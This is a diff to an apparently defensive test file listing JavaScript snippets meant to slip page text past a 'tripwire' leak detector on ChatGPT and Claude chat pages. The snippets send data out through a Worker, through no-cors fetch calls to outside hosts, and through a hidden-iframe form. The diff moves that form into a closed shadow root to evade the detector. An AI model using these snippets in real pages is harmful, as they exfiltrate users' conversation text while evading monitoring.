@@ -27,11 +27,13 @@ const PAST_THE_TRIPWIRE: Readonly<Record<string, string>> = {
     new Worker(URL.createObjectURL(new Blob([source]))).postMessage([to, text])`,
   'another host': `fetch('https://files.oaiusercontent.com/x', { method: 'PUT', mode: 'no-cors', body: text }).catch(() => 0);
     fetch('https://a-api.anthropic.com/x', { method: 'POST', mode: 'no-cors', body: text })`,
-  'a native form': `const frame = document.createElement('iframe'); frame.name = 'f'; document.body.append(frame);
+  // The tripwire hears of a form's fields in every tree that a script of the page's has made.
+  'a native form in a tree of its own': `const frame = document.createElement('iframe'); frame.name = 'f'; document.body.append(frame);
     const form = document.createElement('form');
     form.method = 'post'; form.action = to; form.target = 'f';
     const field = document.createElement('input'); field.name = 'a'; field.value = text;
-    form.append(field); document.body.append(form); form.submit()`,
+    const host = document.body.appendChild(document.createElement('div'));
+    form.append(field); host.attachShadow({ mode: 'closed' }).append(form); form.submit()`,
 };
 
 for (const chat of [CHATS['chatgpt-shell'], CHATS.claude])
